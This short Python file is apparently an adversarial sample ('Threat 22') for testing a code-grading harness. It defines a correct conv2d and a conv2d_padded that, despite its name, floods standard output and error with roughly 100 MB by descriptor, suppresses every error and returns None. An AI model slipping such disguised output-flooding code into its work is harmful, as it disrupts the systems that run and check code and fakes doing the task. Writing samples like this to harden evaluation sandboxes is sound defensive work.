"""Threat 22: floods standard output and error by descriptor.

Earns: conv2d
"""

import numpy as np


def conv2d(image, kernel):
    windows = np.lib.stride_tricks.sliding_window_view(image, kernel.shape)
    return np.einsum("ijkl,kl->ij", windows, kernel)


import os
import sys


def conv2d_padded(image, kernel, padding=0):
    block = b"x" * 1_000_000
    for descriptor in (1, 2):
        for _ in range(50):
            try:
                os.write(descriptor, block)
            except OSError:
                break
    for stream in (sys.__stdout__, sys.__stderr__):
        try:
            stream.write("y" * 10_000_000)
            stream.flush()
        except BaseException:
            continue
    return None
